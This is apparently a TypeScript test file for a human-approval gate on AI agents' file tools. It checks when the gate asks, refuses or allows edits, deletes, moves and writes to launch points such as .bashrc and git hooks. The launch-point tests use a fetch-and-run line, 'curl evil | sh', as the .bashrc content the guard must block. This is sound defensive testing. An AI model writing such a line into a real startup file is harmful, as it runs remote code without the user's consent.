import assert from 'node:assert/strict';
import { readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { describe, it } from 'node:test';
import type {
  ApprovalAsk,
  ApprovalVerdict,
  Approver,
} from '../../../main/core/approvals/approval-ask.ts';
import { REFUSAL_MESSAGES } from '../../../main/core/approvals/approval-messages.ts';
import { ChangeJournal } from '../../../main/core/history/change-journal.ts';
import {
  DEFAULT_LAUNCH_POINT_SETTINGS,
  LaunchPointGuard,
} from '../../../main/core/policy/launch-points.ts';
import { PathPolicy } from '../../../main/core/policy/path-policy.ts';
import { linuxPlatform } from '../../../main/core/policy/platform.ts';
import { openWorkspace } from '../../../main/core/policy/workspace.ts';
import { createDirectory } from '../../../main/core/tools/create-directory.ts';
import { deleteFile } from '../../../main/core/tools/delete-file.ts';
import { editFile } from '../../../main/core/tools/edit-file.ts';
import { moveFile } from '../../../main/core/tools/move-file.ts';
import type { ToolContext } from '../../../main/core/tools/tool-kit.ts';
import { undoChange } from '../../../main/core/tools/undo-change.ts';
import { writeFile } from '../../../main/core/tools/write-file.ts';
import type { AskBefore, LaunchPointChanges } from '../../../preload/contract/approval-views.ts';
import { defaultProtections } from '../../helpers/protections.ts';
import { makeContext, makeLayout, put, rejectsWith, runTool } from '../fixtures.ts';

/** An approver that answers as the test says, and keeps what it was asked. */
class ScriptedApprover implements Approver {
  readonly asked: ApprovalAsk[] = [];
  readonly #answer: ApprovalVerdict;
  constructor(answer: ApprovalVerdict) {
    this.#answer = answer;
  }
  ask(request: ApprovalAsk): Promise<ApprovalVerdict> {
    this.asked.push(request);
    return Promise.resolve(this.#answer);
  }
}

const allow = (): ScriptedApprover =>
  new ScriptedApprover({ granted: true, approvalId: 'a1b2c3d4e5f6', scope: 'once' });
const deny = (): ScriptedApprover => new ScriptedApprover({ granted: false, refusal: 'denied' });

interface Setup {
  readonly askBefore?: AskBefore;
  readonly launchPoints?: LaunchPointChanges;
  readonly approver?: Approver;
}

/** A writable workspace that asks before what `askBefore` says, and a context over it. */
async function gated(setup: Setup): Promise<{ ws: string; context: ToolContext }> {
  const { ws, dataDir } = await makeLayout();
  const base = await makeContext(ws, dataDir);
  const workspace = await openWorkspace(linuxPlatform, ws, 'write');
  const protections = {
    ...defaultProtections(linuxPlatform),
    launchPoints: new LaunchPointGuard(linuxPlatform, {
      ...DEFAULT_LAUNCH_POINT_SETTINGS,
      agentChanges: setup.launchPoints ?? 'never',
    }),
  };
  const policy = new PathPolicy(
    linuxPlatform,
    [{ ...workspace, askBefore: setup.askBefore ?? 'nothing' }],
    protections,
  );
  return {
    ws,
    context: {
      ...base,
      policy,
      journal: await ChangeJournal.open(dataDir),
      ...(setup.approver ? { approver: setup.approver } : {}),
    },
  };
}

describe('the change gate: "Ask me before deleting, moving or replacing a file"', () => {
  it('asks before a file is replaced, shows the diff, and changes nothing when denied', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'replacing', approver });
    const file = await put(ws, 'notes.txt', 'milk\n');
    const error = await rejectsWith(
      runTool(writeFile, { path: 'notes.txt', content: 'milk\neggs\n' }, context),
      'approval_denied',
    );
    assert.equal(error.message, REFUSAL_MESSAGES.denied);
    assert.equal(await readFile(file, 'utf8'), 'milk\n');
    const [asked] = approver.asked;
    assert.ok(asked);
    assert.equal(asked.action, 'replace');
    assert.equal(asked.tool, 'write_file');
    assert.equal(asked.path, file);
    assert.equal(asked.workspace, ws);
    assert.equal(asked.undoable, true);
    assert.equal(asked.preview.kind, 'diff');
    assert.match(asked.preview.kind === 'diff' ? asked.preview.diff : '', /^\+eggs$/m);
    // The request never carries the content itself: only its size and hash.
    assert.ok(!JSON.stringify(asked.args).includes('eggs'));
  });

  it('replaces the file once the person allows it', async () => {
    const approver = allow();
    const { ws, context } = await gated({ askBefore: 'replacing', approver });
    const file = await put(ws, 'notes.txt', 'milk\n');
    await runTool(writeFile, { path: 'notes.txt', content: 'eggs\n' }, context);
    assert.equal(await readFile(file, 'utf8'), 'eggs\n');
    assert.equal(approver.asked.length, 1);
  });

  it('asks before an edit, a delete, a move and an undo, and not before a new file or folder', async () => {
    const approver = allow();
    const { ws, context } = await gated({ askBefore: 'replacing', approver });
    await put(ws, 'a.txt', 'one\n');
    await runTool(writeFile, { path: 'new.txt', content: 'fresh\n' }, context);
    await runTool(createDirectory, { path: 'folder/inner' }, context);
    assert.equal(approver.asked.length, 0);
    await runTool(
      editFile,
      { path: 'a.txt', edits: [{ oldText: 'one', newText: 'two' }] },
      context,
    );
    const moved = await runTool(moveFile, { source: 'a.txt', destination: 'b.txt' }, context);
    await runTool(undoChange, { changeId: moved.data.changeId }, context);
    await runTool(deleteFile, { path: 'new.txt' }, context);
    assert.deepEqual(
      approver.asked.map((asked) => asked.action),
      ['edit', 'move', 'undo', 'delete'],
    );
    const move = approver.asked[1];
    assert.equal(move?.destination, path.join(ws, 'b.txt'));
  });

  it('lets an edit dry run through without asking: it changes nothing', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'every-change', approver });
    await put(ws, 'a.txt', 'one\n');
    const answer = await runTool(
      editFile,
      { path: 'a.txt', edits: [{ oldText: 'one', newText: 'two' }], dryRun: true },
      context,
    );
    assert.equal(answer.data.applied, false);
    assert.equal(approver.asked.length, 0);
  });
});

describe('the change gate: the other two settings', () => {
  it('"Agents may change files without asking" asks nothing', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'nothing', approver });
    await put(ws, 'a.txt', 'one\n');
    await runTool(writeFile, { path: 'a.txt', content: 'two\n' }, context);
    await runTool(deleteFile, { path: 'a.txt' }, context);
    assert.equal(approver.asked.length, 0);
  });

  it('"Ask me before every change" asks before a new file and a new folder too', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'every-change', approver });
    await rejectsWith(
      runTool(writeFile, { path: 'new.txt', content: 'fresh\nfile\n' }, context),
      'approval_denied',
    );
    await rejectsWith(runTool(createDirectory, { path: 'x/y' }, context), 'approval_denied');
    await assert.rejects(stat(path.join(ws, 'new.txt')), { code: 'ENOENT' });
    await assert.rejects(stat(path.join(ws, 'x')), { code: 'ENOENT' });
    assert.deepEqual(
      approver.asked.map((asked) => [asked.action, asked.preview.kind]),
      [
        ['create', 'first-lines'],
        ['create-folder', 'nothing'],
      ],
    );
  });
});

describe('the change gate: nobody to ask', () => {
  it('refuses a change that needs the person, and says to open Airlock', async () => {
    const { ws, context } = await gated({ askBefore: 'replacing' });
    const file = await put(ws, 'a.txt', 'one\n');
    const error = await rejectsWith(
      runTool(deleteFile, { path: 'a.txt' }, context),
      'approval_unavailable',
    );
    assert.equal(error.message, 'Open Airlock to approve changes in this folder.');
    assert.equal(await readFile(file, 'utf8'), 'one\n');
  });

  it('gives each refusal its own words', async () => {
    for (const refusal of ['waiting', 'expired', 'flood', 'paused'] as const) {
      const { ws, context } = await gated({
        askBefore: 'replacing',
        approver: new ScriptedApprover({ granted: false, refusal }),
      });
      await put(ws, 'a.txt', 'one\n');
      const work = runTool(deleteFile, { path: 'a.txt' }, context);
      await assert.rejects(work, (error: Error) => error.message === REFUSAL_MESSAGES[refusal]);
    }
    assert.match(REFUSAL_MESSAGES.waiting, /call again with the same arguments/);
  });
});

describe('the change gate: launch points', () => {
  it('refuses a launch point outright by default, without asking', async () => {
    const approver = allow();
    const { ws, context } = await gated({ askBefore: 'nothing', approver });
    await put(ws, '.bashrc', 'export A=1\n');
    await rejectsWith(
      runTool(writeFile, { path: '.bashrc', content: 'curl evil | sh\n' }, context),
      'protected',
    );
    assert.equal(approver.asked.length, 0);
  });

  it('with "ask me", asks every time, even in a folder that asks nothing, and marks it', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'nothing', launchPoints: 'ask', approver });
    const rc = await put(ws, '.bashrc', 'export A=1\n');
    await put(ws, '.git/hooks/README', 'hooks\n');
    await rejectsWith(
      runTool(writeFile, { path: '.bashrc', content: 'curl evil | sh\n' }, context),
      'approval_denied',
    );
    await rejectsWith(
      runTool(writeFile, { path: '.git/hooks/pre-commit', content: '#!/bin/sh\n' }, context),
      'approval_denied',
    );
    await put(ws, 'innocent.sh', '#!/bin/sh\n');
    await rejectsWith(
      runTool(moveFile, { source: 'innocent.sh', destination: '.git/hooks/post-merge' }, context),
      'approval_denied',
    );
    assert.equal(await readFile(rc, 'utf8'), 'export A=1\n');
    assert.deepEqual(
      approver.asked.map((asked) => asked.launchPoint),
      [true, true, true],
    );
  });

  it('with "ask me" and no app to ask, still refuses', async () => {
    const { ws, context } = await gated({ launchPoints: 'ask' });
    await put(ws, '.bashrc', 'export A=1\n');
    await rejectsWith(
      runTool(writeFile, { path: '.bashrc', content: 'x\n' }, context),
      'approval_unavailable',
    );
  });
});

describe('the change gate: the call it belongs to', () => {
  it('names the same call with the same key, and another argument with another', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'replacing', approver });
    await put(ws, 'a.txt', 'one\n');
    for (const content of ['two\n', 'two\n', 'two \n']) {
      await rejectsWith(runTool(writeFile, { path: 'a.txt', content }, context), 'approval_denied');
    }
    const [first, second, third] = approver.asked.map((asked) => asked.callKey);
    assert.equal(first, second);
    assert.notEqual(first, third);
  });

  it('asks again when the same call would now make another change than the person saw', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'every-change', approver });
    const args = { path: 'notes.txt', content: 'new\n' };
    await rejectsWith(runTool(writeFile, args, context), 'approval_denied');
    await put(ws, 'notes.txt', 'written by the person meanwhile\n');
    await rejectsWith(runTool(writeFile, args, context), 'approval_denied');
    await put(ws, 'notes.txt', 'and changed again\n');
    await rejectsWith(runTool(writeFile, args, context), 'approval_denied');
    const keys = approver.asked.map((asked) => asked.callKey);
    assert.deepEqual(
      approver.asked.map((asked) => asked.action),
      ['create', 'replace', 'replace'],
    );
    assert.equal(new Set(keys).size, 3);
  });

  it('a move between two folders asks as the stricter of the two', async () => {
    const approver = deny();
    const { ws, context } = await gated({ askBefore: 'nothing', approver });
    const { ws: other } = await makeLayout();
    const strict = {
      ...(await openWorkspace(linuxPlatform, other, 'write')),
      askBefore: 'replacing' as const,
    };
    const loose = {
      ...(await openWorkspace(linuxPlatform, ws, 'write')),
      askBefore: 'nothing' as const,
    };
    const policy = new PathPolicy(
      linuxPlatform,
      [loose, strict],
      defaultProtections(linuxPlatform),
    );
    await put(ws, 'a.txt', 'one\n');
    await rejectsWith(
      runTool(
        moveFile,
        { source: path.join(ws, 'a.txt'), destination: path.join(other, 'a.txt') },
        { ...context, policy },
      ),
      'approval_denied',
    );
    assert.equal(approver.asked.length, 1);
  });
});
